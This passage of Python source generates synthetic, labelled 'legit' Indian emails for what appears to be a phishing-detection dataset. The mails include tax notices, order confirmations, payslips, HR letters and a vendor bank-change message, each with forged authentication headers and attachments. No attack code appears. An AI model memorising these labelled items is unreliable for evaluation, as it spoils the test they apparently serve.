    date = "Tue, 17 Jun 2025 12:52:18 +0530"
    rcpt = "accounts@mehtapackaging.com"
    sender = NIKHIL[1]
    pdf = files.pdf(["GOVERNMENT OF MAHARASHTRA - GOODS AND SERVICES TAX DEPARTMENT", "FORM GST DRC-01A",
                     "Intimation of tax ascertained as being payable under section 73(5)", "",
                     f"GSTIN: 27AAHFM{digits('gst2', 4)}L1Z5   Name: MEHTA PACKAGING", "Tax period: FY 2021-22",
                     "Reference No.: ZD270625" + digits(tag, 7), "", "Mismatch of ITC availed in GSTR-3B vs GSTR-2A: Rs. 46,812",
                     "You may pay the amount with interest or file submissions in Part B within 30 days."],
                    title="DRC-01A Mehta Packaging")
    html = html_page("""<div style="font-family:Verdana,Arial,sans-serif;font-size:10pt">
<div>Dear Mehta ji,</div><div><br></div>
<div>While checking the portal for the June return I noticed a <b>DRC-01A intimation</b> for FY 2021-22 under the
Additional Notices and Orders tab. Copy downloaded from the portal is attached for your reference.</div><div><br></div>
<div>The department has flagged ITC of Rs. 46,812 availed in 3B that does not appear in 2A. Most of it relates to two invoices of
Kohinoor Polymers who filed their GSTR-1 late. Please send us the purchase invoices, payment proofs and the ledger of
Kohinoor for that year by Friday, so we can file the reply in Part B before the 30-day window closes on 12th July.</div><div><br></div>
<div>Also, you may get emails claiming to be from GST about suspension or notices with a login link. Please ignore those - all genuine
notices are visible on the portal and we check it every month.</div><div><br></div>
<div>Regards,<br>CA Nikhil Patil<br>Patil &amp; Associates, Chartered Accountants<br>Shivajinagar, Pune | 020-2553 4127</div></div>""")
    head = "\n".join([
        f"Date: {date}",
        f"From: {addr('CA Nikhil Patil', sender)}",
        f"To: {addr('Mehta Packaging Accounts', rcpt)}",
        "Cc: \"Rohan Mehta\" <rohan@mehtapackaging.com>",
        f"Message-Id: <{hx(tag + 'm', 16)}.{digits(tag + 'm2', 16)}@patilassociates.co.in>",
        "Subject: DRC-01A intimation for FY 2021-22 - documents needed",
        "MIME-Version: 1.0",
        "Importance: Medium",
        "User-Agent: Zoho Mail",
        "X-Mailer: Zoho Mail",
    ])
    bnd = f"----=_Part_{digits(tag + 'b', 6)}_{digits(tag + 'c', 9)}.{digits(tag + 'd', 13)}"
    body = mixed(bnd, [alt(bnd.replace("Part_", "Part_A"), strip_tags(html), html, "quoted-printable", upper_cs=True),
                       attachment("application/pdf", "DRC-01A_FY2021-22_MehtaPackaging.pdf", pdf)])
    hops = [f"Received: by mx.zohomail.in with SMTP id {digits(tag + 'z', 13)}{digits(tag + 'z2', 6)}.{digits(tag + 'z3', 5)};\n\t{{T}}"]
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip="136.143.169.53", rdns="sender4-op-o53.zoho.in",
                    helo="sender4-op-o53.zoho.in", spf="pass", dmarc="pass", policy_="quarantine",
                    dkim=[("pass", "patilassociates.co.in", "zmail")], head=head, body=body, hops=hops)


@entry("b41-legit-epfo-claim-settled", "bulk",
       "Genuine EPFO notice that a PF final-settlement claim was settled and the amount sent to the member's bank account, "
       "plain text from epfindia.gov.in with no link or request.")
def epfo_settled() -> bytes:
    tag = "lepfo"
    date = "Mon, 12 May 2025 16:20:09 +0530"
    rcpt = RAJESH[1]
    sender = "no-reply@epfindia.gov.in"
    claim = "DLCPM" + digits(tag, 15)
    plain = (f"Dear Member,\n\nUAN: {digits('epfo1', 12)}\n\n"
             f"Your claim with Claim ID {claim} for Form-19 (Final PF Settlement) has been settled on 12-05-2025.\n"
             f"An amount of Rs. 48,300/- has been sent to your bank account XXXXXXXX{digits(tag + 'a', 4)} (SBIN0001276) through NEFT. "
             "It will be credited within 3 working days.\n\n"
             "You can view your passbook on the Member e-Sewa portal or UMANG app.\n\n"
             "EPFO never asks members to share their UAN password, OTP or bank details over phone, e-mail or social media.\n\n"
             "Regards,\nEmployees' Provident Fund Organisation\nRegional Office, Delhi (Central)\n\n"
             "This is an auto-generated e-mail. Please do not reply.\n")
    head = "\n".join([
        f"Date: {date}",
        f"From: {addr('EPFO', sender)}",
        f"To: {rcpt}",
        f"Message-ID: <{digits(tag + 'm', 9)}.{digits(tag + 'm2', 6)}.{digits(tag + 'm3', 13)}@epfindia.gov.in>",
        f"Subject: EPFO: Claim ID {claim} settled",
        "MIME-Version: 1.0",
    ])
    body = leaf_text(plain, "plain", "7bit")
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip="164.100.14.211", rdns="relay2.nic.in",
                    helo="relay2.nic.in", spf="pass", dmarc="pass", policy_="none", dkim=[("pass", "epfindia.gov.in", "epfo")],
                    head=head, body=body)


@entry("b41-legit-irctc-eticket", "bulk",
       "Genuine IRCTC booking confirmation for a 3A ticket with passenger/PNR details and the e-ticket PDF attached, from "
       "ticketadmin@irctc.co.in.")
def irctc() -> bytes:
    tag = "lirctc"
    date = "Wed, 26 Mar 2025 22:41:17 +0530"
    rcpt = AMIT[1]
    sender = "ticketadmin@irctc.co.in"
    pnr = "2" + digits(tag, 9)
    pdf = files.pdf(["Electronic Reservation Slip (ERS)", f"PNR: {pnr}   Train: 12229 / LUCKNOW MAIL   Class: THIRD AC (3A)",
                     "From: LUCKNOW NR (LKO)   To: NEW DELHI (NDLS)   Date of Journey: 18-Apr-2025",
                     "Departure: 22:00   Arrival: 07:05", "", "Passenger 1: AMIT VERMA  M 34  CNF/B3/41/LOWER",
                     "Passenger 2: RUCHI VERMA  F 31  CNF/B3/44/LOWER", "",
                     "Total Fare: Rs. 2,370.00 (incl. IRCTC convenience fee)",
                     "Transaction ID: 1000" + digits(tag + "t", 10)], title=f"ERS {pnr}")
    html = html_page(f"""<div style="font-family:Arial;font-size:13px;line-height:19px">
<p>Dear Amit Verma,</p>
<p>Thank you for using IRCTC's online rail reservation facility. Your booking details are indicated below.</p>
<table border="1" cellpadding="4" style="border-collapse:collapse;font-size:12px">
<tr><td>PNR No.</td><td>{pnr}</td><td>Train No. / Name</td><td>12229 / LUCKNOW MAIL</td></tr>
<tr><td>Date of Journey</td><td>18-Apr-2025</td><td>Class</td><td>THIRD AC (3A)</td></tr>
<tr><td>From</td><td>LUCKNOW NR (LKO)</td><td>To</td><td>NEW DELHI (NDLS)</td></tr>
<tr><td>Passenger 1</td><td>AMIT VERMA, 34, M</td><td>Status</td><td>CNF/B3/41/LOWER</td></tr>
<tr><td>Passenger 2</td><td>RUCHI VERMA, 31, F</td><td>Status</td><td>CNF/B3/44/LOWER</td></tr>
<tr><td>Total Fare</td><td colspan="3">Rs. 2,370.00</td></tr></table>
<p>Please carry the ERS or the SMS along with an original ID proof during the journey. For cancellation use
<a href="https://www.irctc.co.in/nget/">www.irctc.co.in</a> or the IRCTC Rail Connect app.</p>
<p>Warm Regards,<br>Customer Care<br>Indian Railway Catering &amp; Tourism Corporation Ltd.</p></div>""")
    head = "\n".join([
        f"Date: {date}",
        f"From: {sender}",
        f"To: {rcpt}",
        f"Message-ID: <{digits(tag + 'm', 9)}.{digits(tag + 'm2', 7)}.{digits(tag + 'm3', 13)}.JavaMail.ngetuser@irctc.co.in>",
        f"Subject: Booking Confirmation on IRCTC, Train: 12229, 18-Apr-2025, 3A, LKO - NDLS",
        "MIME-Version: 1.0",
    ])
    bnd = f"----=_Part_{digits(tag + 'b', 7)}_{digits(tag + 'c', 9)}.{digits(tag + 'd', 13)}"
    body = mixed(bnd, [leaf_text(html, "html", "quoted-printable"), attachment("application/pdf", f"{pnr}.pdf", pdf)])
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip="103.229.16.207", rdns="mailer7.irctc.co.in",
                    helo="mailer7.irctc.co.in", spf="pass", dmarc="pass", policy_="reject", dkim=[("pass", "irctc.co.in", "irctc")],
                    head=head, body=body)


@entry("b41-legit-swiggy-order", "bulk",
       "Genuine Swiggy 'your order was delivered' summary with itemised bill, sent through SendGrid with click-tracked "
       "links and an unsubscribe header.")
def swiggy() -> bytes:
    tag = "lswg"
    date = "Fri, 25 Jul 2025 14:08:52 +0000"
    rcpt = PRIYA[1]
    sender = "noreply@swiggy.in"
    order = "18" + digits(tag, 10)
    trk = lambda n: f"https://u2047158.ct.sendgrid.net/ls/click?upn=u001.{b64(tag + n, 90).replace('/', '-').replace('+', '_')}"
    html = html_page(f"""<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Arial;color:#3d4152;font-size:14px">
<tr><td style="padding:18px;background:#fc8019;color:#fff;font-size:22px;font-weight:bold">Swiggy</td></tr>
<tr><td style="padding:18px">Hi Priya,<br><br>Your order from <b>A2B - Adyar Ananda Bhavan</b> (Velachery) was delivered successfully.<br><br>
<table width="100%" cellpadding="4" style="font-size:13px"><tr><td>Order No:</td><td align="right">{order}</td></tr>
<tr><td>Mini Meals x 2</td><td align="right">&#8377;340.00</td></tr><tr><td>Rava Kesari x 1</td><td align="right">&#8377;75.00</td></tr>
<tr><td>Delivery Fee</td><td align="right">&#8377;29.00</td></tr><tr><td>Platform fee</td><td align="right">&#8377;10.00</td></tr>
<tr><td>Taxes</td><td align="right">&#8377;21.55</td></tr><tr><td><b>Order Total</b></td><td align="right"><b>&#8377;475.55</b></td></tr>
<tr><td>Paid via</td><td align="right">UPI</td></tr></table><br>
<a href="{trk('rate')}" style="color:#fc8019">Rate your order</a> &nbsp;|&nbsp; <a href="{trk('help')}" style="color:#fc8019">Get help with this order</a></td></tr>
<tr><td style="padding:14px;font-size:11px;color:#93959f;background:#f2f2f2">Bundl Technologies Pvt Ltd (Swiggy), Bengaluru 560103.<br>
<a href="{trk('unsub')}">Unsubscribe</a></td></tr></table>
<img src="https://u2047158.ct.sendgrid.net/wf/open?upn=u001.{b64(tag + 'open', 60).replace('/', '-').replace('+', '_')}" width="1" height="1" alt="">""", "Swiggy")
    head = "\n".join([
        f"Date: {date}",
        f"From: {addr('Swiggy', sender)}",
        "Mime-Version: 1.0",
        f"Message-ID: <{b64(tag + 'mid', 22).replace('/', '_').replace('+', '-')}@geopod-ismtpd-{digits(tag + 'gp', 2)}>",
        f"Subject: Your Swiggy order was successfully delivered",
        f"To: {rcpt}",
        unsub(trk("lu")),
        "X-SG-EID: \n " + fold_b(b64(tag + "eid", 160), 70, 74, " "),
        "X-Entity-ID: u001." + b64(tag + "ent", 22),
    ])
    body = alt(hx(tag + "bd", 64), strip_tags(html), html, "quoted-printable")
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=f"bounces+2047158-{hx(tag + 'bm', 4)}-{rcpt.replace('@', '=')}@em.swiggy.in",
                    ip="149.72.171.58", rdns="o7.mail.swiggy.in", helo="o7.mail.swiggy.in", spf="pass", dmarc="pass", policy_="reject",
                    dkim=[("pass", "swiggy.in", "s1"), ("pass", "sendgrid.info", "smtpapi")], head=head, body=body,
                    hops=sendgrid_hops(tag, "swiggy.in"), sign_h="from:mime-version:subject:to:cc:content-type:from:subject:to;")


@entry("b41-legit-amazonin-order", "bulk",
       "Genuine Amazon.in order confirmation (auto-confirm@amazon.in) with item, delivery estimate, payment method and "
       "links to amazon.in order pages.")
def amazon_order() -> bytes:
    tag = "lamz"
    date = "Mon, 29 Sep 2025 10:57:12 +0000"
    rcpt = ANANYA[1]
    sender = "auto-confirm@amazon.in"
    order = f"408-{digits(tag, 7)}-{digits(tag + 'b', 7)}"
    html = html_page(f"""<table width="640" align="center" cellpadding="0" cellspacing="0" style="font-family:Arial;font-size:14px;color:#0f1111">
<tr><td style="padding:14px 18px;border-bottom:1px solid #ddd"><img src="https://m.media-amazon.com/images/G/31/x-locale/common/amazon_logo_email._CB485942108_.png" width="110" alt="amazon.in"></td></tr>
<tr><td style="padding:18px"><span style="font-size:20px">Ordered: "boAt Airdopes 141 Bluetooth TWS..."</span><br><br>
Hello Ananya, thank you for shopping with us. We'll send a confirmation when your item ships.<br><br>
<b>Arriving:</b> Thursday, October 2<br><b>Ship to:</b> Ananya Bose, Salt Lake Sector V, Kolkata 700091<br>
<b>Order #</b> {order}<br><b>Order Total:</b> &#8377;1,099.00 (Paid by Amazon Pay UPI)<br><br>
<a href="https://www.amazon.in/gp/css/order-details?orderID={order}&ref_=pe_{digits(tag + 'r', 8)}_{digits(tag + 'r2', 9)}" style="background:#ffd814;color:#0f1111;padding:8px 18px;text-decoration:none;border-radius:8px">View or manage order</a></td></tr>
<tr><td style="padding:14px 18px;font-size:12px;color:#565959">By placing your order, you agree to Amazon.in's
<a href="https://www.amazon.in/gp/help/customer/display.html?nodeId=200545940">Conditions of Use</a> and
<a href="https://www.amazon.in/gp/help/customer/display.html?nodeId=200534380">Privacy Notice</a>.<br>
This email was sent from a notification-only address that cannot accept incoming email.</td></tr></table>""", "Amazon.in")
    head = "\n".join([
        f"Date: {date}",
        f"From: {addr('Amazon.in', sender)}",
        f"To: {rcpt}",
        f"Message-ID: {ses_msgid(tag).replace('ap-south-1.amazonses.com', 'eu-west-1.amazonses.com').replace('<0109', '<0102')}",
        f"Subject: Your Amazon.in order #{order} of 1 item",
        "MIME-Version: 1.0",
        f"X-AMAZON-MAIL-RELAY-TYPE: notification",
        f"Bounces-to: {hx(tag + 'bt', 20)}@bounces.amazon.in",
        f"X-AMAZON-RTE-VERSION: 2.0",
        f"X-AMAZON-METADATA: CA={hx(tag + 'ca', 20).upper()}-CU={hx(tag + 'cu', 14).upper()}",
        f"X-Original-MessageID: <urn.rtn.msg.{parsedate_to_datetime(date):%Y%m%d%H%M%S}{hx(tag + 'om', 10)}@1>",
        ses_feedback(tag).replace("ap-south-1", "eu-west-1").replace("69.169.226", "54.240.4"),
    ])
    body = alt(f"----=_Part_{digits(tag + 'b', 7)}_{digits(tag + 'c', 9)}.{digits(tag + 'd', 13)}", strip_tags(html), html, "quoted-printable")
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=f"{hx(tag + 'rp', 20)}@bounces.amazon.in", ip="54.240.4.21",
                    rdns="a4-21.smtp-out.eu-west-1.amazonses.com", helo="a4-21.smtp-out.eu-west-1.amazonses.com",
                    spf="pass", dmarc="pass", policy_="quarantine",
                    dkim=[("pass", "amazon.in", "ktbp2ri6ohnlpmfaay4w6ewcmfnuwlge"), ("pass", "amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv")],
                    head=head, body=body)


@entry("b41-legit-naukri-job-alert", "bulk",
       "Genuine Naukri.com job-alert digest for a fresher with several software-trainee openings, tracked naukri.com links "
       "and an unsubscribe header.")
def naukri_alert() -> bytes:
    tag = "lnau"
    date = "Tue, 13 May 2025 06:31:40 +0530"
    rcpt = "harsha.vardhan.gnt@gmail.com"
    sender = "naukrialerts@naukri.com"
    jobs = [("Graduate Engineer Trainee", "Cognizant", "Hyderabad", "0-1 Yrs", "4-4.5 Lacs PA"),
            ("Associate Software Engineer", "Accenture", "Bengaluru, Hyderabad", "0-2 Yrs", "Not disclosed"),
            ("Trainee - Java Developer", "Cyient", "Hyderabad", "0-1 Yrs", "3-3.75 Lacs PA"),
            ("Junior Data Analyst", "Value Labs", "Hyderabad", "0-2 Yrs", "3.5-5 Lacs PA")]
    rows = ""
    for i, (title, co, loc, exp, sal) in enumerate(jobs):
        jid = digits(tag + str(i), 12)
        url = f"https://www.naukri.com/job-listings-{title.lower().replace(' ', '-').replace('---', '-')}-{co.lower().replace(' ', '-')}-{jid}?src=jobalert&sid={digits(tag + 's', 17)}&xp={i + 1}"
        rows += (f'<tr><td style="padding:12px 0;border-bottom:1px solid #eee"><a href="{url}" style="color:#275df5;font-size:15px;text-decoration:none">'
                 f"<b>{title}</b></a><br>{co}<br><span style=\"color:#717b9e;font-size:12px\">{exp} | {sal} | {loc}</span></td></tr>\n")
    html = html_page(f"""<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Arial;font-size:13px;color:#121224">
<tr><td style="padding:14px 0"><img src="https://static.naukimg.com/s/4/100/i/naukri_Logo.png" width="120" alt="naukri.com"></td></tr>
<tr><td>Hi Harsha Vardhan,<br><br>Here are new jobs matching your job alert <b>"Fresher Software Hyderabad"</b>:</td></tr>
{rows}<tr><td style="padding:14px 0;font-size:11px;color:#717b9e">Beware of fraudsters! Naukri and genuine recruiters never ask for money for
interviews or job offers. <a href="https://www.naukri.com/security-tips">Security tips</a><br><br>
You are receiving this mail because you created a job alert on Naukri.com.
<a href="https://www.naukri.com/mnjuser/alerts/unsubscribe?id={hx(tag + 'u', 24)}">Unsubscribe</a> | Info Edge (India) Ltd., Noida</td></tr></table>""", "Naukri")
    head = "\n".join([
        f"Date: {date}",
        f"From: {addr('Naukri Jobs', sender)}",
        f"To: {rcpt}",
        f"Message-ID: <{hx(tag + 'm', 24)}.{digits(tag + 'm2', 10)}@naukri.com>",
        "Subject: 4 new jobs for 'Fresher Software Hyderabad' - Cognizant, Accenture and more",
        "MIME-Version: 1.0",
        unsub(f"https://www.naukri.com/mnjuser/alerts/unsubscribe?id={hx(tag + 'u', 24)}&oc=1", f"unsubscribe-{hx(tag + 'u', 12)}@naukri.com"),
        "Precedence: bulk",
    ])
    body = alt(f"----=_Part_{digits(tag + 'b', 7)}_{digits(tag + 'c', 9)}", strip_tags(html), html, "quoted-printable")
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=f"bounce-{hx(tag + 'bn', 12)}@bounce.naukri.com", ip="103.211.53.43",
                    rdns="mail43.naukri.com", helo="mail43.naukri.com", spf="pass", dmarc="pass", policy_="reject",
                    dkim=[("pass", "naukri.com", "nk2048")], head=head, body=body)


@entry("b41-legit-bluedart-out-for-delivery", "bulk",
       "Genuine Blue Dart 'shipment out for delivery' notification for an e-commerce parcel, with the waybill and a "
       "tracking link to bluedart.com; no payment requested.")
def bluedart_ofd() -> bytes:
    tag = "lbd"
    date = "Thu, 18 Sep 2025 08:04:26 +0530"
    rcpt = NEHA[1]
    sender = "noreply@bluedart.com"
    awb = "8" + digits(tag, 10)
    html = html_page(f"""<div style="max-width:600px;font-family:Arial;font-size:14px;border:1px solid #ddd">
<div style="background:#4b2e83;padding:12px;color:#fff;font-size:20px;font-weight:bold">BLUE DART</div>
<div style="padding:18px;line-height:22px">Dear Neha Gupta,<br><br>
Your shipment with Waybill No. <b>{awb}</b> from <b>NYKAA E-RETAIL PVT LTD</b> is out for delivery today and will be delivered by
our courier associate between 10:00 and 19:00.<br><br>
Reference No.: NYK{digits(tag + 'r', 9)}<br>Delivery Area: Sector 62, Noida<br><br>
Track your shipment: <a href="https://www.bluedart.com/tracking?trackFor=0&trackNo={awb}">www.bluedart.com/tracking</a><br><br>
Please note: Blue Dart does not ask for any payment, OTP or bank details over e-mail or phone for prepaid shipments.<br><br>
Regards,<br>Blue Dart Express Ltd.</div></div>""", "Blue Dart")
    head = "\n".join([
        f"From: {addr('Blue Dart', sender)}",
        f"To: {rcpt}",
        f"Subject: Your Blue Dart shipment {awb} is out for delivery",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 28)}@bluedart.com>",
        "MIME-Version: 1.0",
    ])
    body = leaf_text(html, "html", "quoted-printable")
    return assemble(provider="m365", rcpt=rcpt, mailfrom=f"bounce-{hx(tag + 'bn', 10)}@bounce.bluedart.com", ip="163.47.180.73",
                    rdns="mta73.transmail.netcorecloud.net", helo="mta73.transmail.netcorecloud.net", spf="pass", dmarc="pass",
                    policy_="quarantine", dkim=[("pass", "bluedart.com", "nc")], head=head, body=body)


@entry("b41-legit-msedcl-ebill", "bulk",
       "Genuine MSEDCL (Mahavitaran) monthly e-bill in Marathi and English with consumer number, amount, due date and a "
       "link to the official wss.mahadiscom.in payment page; the real mail the disconnection scams copy.")
def msedcl_bill() -> bytes:
    tag = "lmse"
    date = "Sat, 08 Mar 2025 11:14:09 +0530"
    rcpt = "vaishali.kulkarni88@gmail.com"
    sender = "ebill@mahadiscom.in"
    cons = "1700" + digits(tag, 8)
    html = html_page(f"""<div style="max-width:620px;font-family:Arial,'Noto Sans Devanagari';font-size:14px;line-height:1.6">
<p><b>महाराष्ट्र राज्य विद्युत वितरण कंपनी मर्यादित (महावितरण)</b></p>
<p>प्रिय ग्राहक,<br>आपले फेब्रुवारी 2025 महिन्याचे वीज बिल तयार आहे.</p>
<table border="1" cellpadding="5" style="border-collapse:collapse;font-size:13px">
<tr><td>ग्राहक क्रमांक / Consumer No.</td><td>{cons}</td></tr><tr><td>बिल रक्कम / Bill Amount</td><td>&#8377; 1,840.00</td></tr>
<tr><td>देय दिनांक / Due Date</td><td>24-03-2025</td></tr><tr><td>Prompt payment discount if paid by</td><td>15-03-2025</td></tr></table>
<p>Dear Consumer, your electricity bill for February 2025 is generated. You can view and pay the bill online at
<a href="https://wss.mahadiscom.in/wss/wss?uiActionName=getViewPayBill">wss.mahadiscom.in</a> or through the Mahavitaran mobile app.</p>
<p>महावितरण कधीही ग्राहकांना वैयक्तिक मोबाइल क्रमांकावर संपर्क साधण्यास सांगत नाही. अधिकृत टोल फ्री क्रमांक: 1912 / 1800-233-3435.</p>
<p>धन्यवाद,<br>महावितरण</p></div>""", "MSEDCL e-Bill", "mr")
    head = "\n".join([
        f"Date: {date}",
        f"From: {addr('MSEDCL e-Bill', sender)}",
        f"To: {rcpt}",
        f"Message-ID: <{digits(tag + 'm', 9)}.{digits(tag + 'm2', 6)}.{digits(tag + 'm3', 13)}@mahadiscom.in>",
        f"Subject: {enc('महावितरण वीज बिल फेब्रुवारी 2025 - ग्राहक क्रमांक ' + cons)}",
        "MIME-Version: 1.0",
    ])
    body = leaf_text(html, "html", "base64")
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip="117.239.183.14", rdns="mail1.mahadiscom.in",
                    helo="mail1.mahadiscom.in", spf="pass", dmarc="pass", policy_="none", dkim=[("pass", "mahadiscom.in", "default")],
                    head=head, body=body)


@entry("b41-legit-greythr-payslip", "bulk",
       "Genuine greytHR payroll notification 'payslip for March 2025' to an IT-company employee with the payslip as a "
       "password-protected PDF and a link to the company's greytHR portal.")
def greythr() -> bytes:
    tag = "lgh"
    date = "Mon, 31 Mar 2025 19:22:48 +0000"
    rcpt = KARTHIK[1]
    sender = "noreply@greythr.com"
    pdf = encrypted_pdf(["NAVYUG INFOTECH PVT. LTD.", "Payslip for the month of March 2025", "",
                         "Employee: KARTHIK SUBRAMANIAN   Emp No: NV1184   Designation: Senior Software Engineer",
                         "Basic 62,500 | HRA 31,250 | Special Allowance 41,870 | PF -7,500 | PT -200 | TDS -14,320",
                         "Net Pay: Rs. 1,13,600"], "NV1184" + "1990", "ghr-" + hx(tag, 8), "greytHR", tag)
    html = html_page("""<div style="font-family:Arial;font-size:14px;color:#333;max-width:600px">
<p>Dear Karthik Subramanian,</p>
<p>Your payslip for the month of <b>March 2025</b> has been released and is attached to this email.</p>
<p>The attachment is password protected. Use your employee number followed by your year of birth (YYYY) to open it.</p>
<p>You can also view and download your payslips from <a href="https://navyuginfotech.greythr.com/v3/portal/ess/payslips">greytHR</a>.</p>
<p>Regards,<br>Payroll Team<br>Navyug Infotech Pvt. Ltd.</p>
<p style="font-size:11px;color:#888">This is an auto-generated email from greytHR. Please do not reply.</p></div>""")
    head = "\n".join([
        f"From: {addr('Navyug Infotech Payroll', sender)}",
        f"Reply-To: payroll@navyuginfotech.com",
        f"To: {rcpt}",
        "Subject: Payslip for the month of March 2025",
        f"Date: {date}",
        "MIME-Version: 1.0",
        f"Message-ID: {ses_msgid(tag)}",
        ses_feedback(tag),
    ])
    body = mixed(f"----=_Part_{digits(tag + 'b', 7)}_{digits(tag + 'c', 9)}.{digits(tag + 'd', 13)}", [
        alt(f"----=_Part_{digits(tag + 'e', 7)}_{digits(tag + 'f', 9)}.{digits(tag + 'g', 13)}", strip_tags(html), html, "quoted-printable"),
        attachment("application/pdf", "Payslip_Mar2025_NV1184.pdf", pdf),
    ])
    ip, rdns, helo = ses_conn(tag)
    return assemble(provider="m365", rcpt=rcpt, mailfrom=f"0109{hx(tag + 'bn', 12)}-{hx(tag + 'bn2', 8)}-000000@mail.greythr.com",
                    ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass", policy_="quarantine",
                    dkim=[("pass", "greythr.com", "gh2048"), ("pass", "amazonses.com", "ekvbgu5tzjbtbgefhnjv5kulmqgzbjq7")],
                    head=head, body=body)


@entry("b41-legit-hr-appraisal-internal", "clean",
       "Internal Microsoft 365 mail from the HR business partner to an employee with her FY 2025-26 appraisal letter "
       "attached as a PDF and a pointer to the intranet; genuine internal HR mail resembling the payroll lures.")
def hr_internal() -> bytes:
    tag = "lhr"
    date = "Fri, 04 Apr 2025 17:46:22 +0530"
    rcpt = NEHA[1]
    sender = "priyanka.rao@navyuginfotech.com"
    sent = parsedate_to_datetime(date)
    box = f"PN3PR01MB{digits(tag, 4)}"
    box2 = f"PN3PR01MB{digits(tag + 'x', 4)}"
    pdf = files.pdf(["NAVYUG INFOTECH PVT. LTD.", "Annual Appraisal Letter - FY 2025-26", "", "Employee: Neha Gupta (NV2071)",
                     "Designation: Senior Analyst - Finance Operations", "Rating: Exceeds Expectations",
                     "Revised fixed CTC effective 1 April 2025: Rs. 14,80,000 per annum", "",
                     "This letter is confidential. Please do not share it.", "Priyanka Rao, HR Business Partner"],
                    title="Appraisal Letter FY26 - Neha Gupta")
    paras = ["Hi Neha,", "",
             "Congratulations on a great year! Please find attached your appraisal letter for FY 2025-26. The revised salary "
             "will be effective from April payroll and reflected in the payslip on greytHR.", "",
             "The letter is also available on the intranet under HR Connect &gt; My Documents. As mentioned in the town hall, "
             "HR will never share letters through external links or DocuSign - if you get any such mail, please report it to "
             "it-security@navyuginfotech.com.", "",
             "Happy to discuss any questions on Monday.", "",
             "Regards,", "Priyanka Rao", "HR Business Partner | Navyug Infotech Pvt. Ltd.", "Sector 62, Noida | +91 120 471 6200"]
    html = outlook_html(paras)
    when = sent + timedelta(seconds=2)
    headers = "\n".join([
        f"Received: from {box}.INDPRD01.PROD.OUTLOOK.COM (2603:1096:c01:{hx(tag + 'a', 3)}::{hx(tag + 'b', 2)}) by\n {box2}.INDPRD01.PROD.OUTLOOK.COM "
        f"with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8606.29; {format_datetime(when.astimezone(timezone.utc)).replace('-0000', '+0000')}",
        f"Received: from {box}.INDPRD01.PROD.OUTLOOK.COM\n ([fe80::{hx(tag + 'c', 4)}:{hx(tag + 'd', 4)}:{hx(tag + 'e', 4)}:{hx(tag + 'f', 4)}]) by {box}.INDPRD01.PROD.OUTLOOK.COM\n"
        f" ([fe80::{hx(tag + 'c', 4)}:{hx(tag + 'd', 4)}:{hx(tag + 'e', 4)}:{hx(tag + 'f', 4)}%4]) with mapi id 15.20.8606.029; {format_datetime(sent.astimezone(timezone.utc)).replace('-0000', '+0000')}",
        f"From: {addr('Priyanka Rao', sender)}",
        f"To: {addr(NEHA[0], rcpt)}",
        "Subject: Your appraisal letter - FY 2025-26",
        "Thread-Topic: Your appraisal letter - FY 2025-26",
        f"Thread-Index: AduleR{b64(tag + 'ti', 16)}",
        f"Date: {format_datetime(sent.astimezone(timezone.utc)).replace('-0000', '+0000')}",
        f"Message-ID: <{box}{upper(tag + 'm', 12)}{digits(tag + 'm2', 4)}@{box}.INDPRD01.PROD.OUTLOOK.COM>",
        "Accept-Language: en-IN, en-US",
        "Content-Language: en-US",
        "X-MS-Has-Attach: yes",
        "X-MS-Exchange-Organization-SCL: -1",
        "X-MS-TNEF-Correlator:",
        "X-MS-Exchange-Organization-RecordReviewCfmType: 0",
        "X-MS-Exchange-Organization-AuthSource: " + f"{box}.INDPRD01.PROD.OUTLOOK.COM",
        "X-MS-Exchange-Organization-AuthAs: Internal",
        "X-MS-Exchange-Organization-AuthMechanism: 04",
        f"X-MS-Exchange-Organization-Network-Message-Id: {hx(tag + 'n1', 8)}-{hx(tag + 'n2', 4)}-{hx(tag + 'n3', 4)}-{hx(tag + 'n4', 4)}-{hx(tag + 'n5', 12)}",
        "X-MS-PublicTrafficType: Email",
        "Authentication-Results: dkim=none (message not signed)\n header.d=none;dmarc=none action=none header.from=navyuginfotech.com;",
        "MIME-Version: 1.0",
    ])
    body = mixed(outlook_boundary(tag + "mx"), [alt(outlook_boundary(tag), strip_tags("<br>".join(paras)), html, "base64"),
                                                attachment("application/pdf", "Appraisal_Letter_FY26_Neha_Gupta.pdf", pdf)])
    return message(headers, body)


@entry("b41-legit-vendor-bank-change-genuine", "clean",
       "A steel supplier's accounts head writes from its Microsoft 365 domain to a customer's AP team about a genuine bank "
       "migration, attaching the signed letter and asking them to verify by phone with the known contact before updating.")
def vendor_bank_genuine() -> bytes:
    tag = "lvb"
    date = "Wed, 14 May 2025 11:05:37 +0530"
    rcpt = FINAP[1]
    sender = "rakesh@jainsteelsindia.com"
    pdf = files.pdf(["JAIN STEELS INDIA PVT. LTD.", "B-14, Industrial Area Site IV, Sahibabad, Ghaziabad 201010",
                     "CIN U27100DL2006PTC1" + digits(tag, 5), "", "Date: 12-05-2025", "To: Navyug Infotech Pvt. Ltd. - Accounts Payable", "",
                     "Sub: Change of bank account for receipts", "",
                     "We have moved our collection account from Bank of Baroda to HDFC Bank with effect from 1 June 2025.",
                     "New account: HDFC Bank, Sahibabad branch. Full account details will be confirmed by our",
                     "accounts head on a call to your registered AP contact; please update your vendor master",
                     "only after that confirmation. Payments already scheduled in May may go to the old account.", "",
                     "For Jain Steels India Pvt. Ltd.   (Signed)  Director"], title="Bank change intimation")
    paras = ["Dear Accounts Payable team,", "",
             "Please find attached our letter regarding the migration of our collection account from Bank of Baroda to HDFC Bank "
             "from 1st June 2025. The signed original is also being sent by courier to your Noida office.", "",
             "As per your vendor-change process, please call me on our landline 0120-4178 230 (the number in your vendor master) "
             "to verify the new account number and IFSC before updating. Payments due in May can go to the existing account as usual.", "",
             "Thanks for your support.", "",
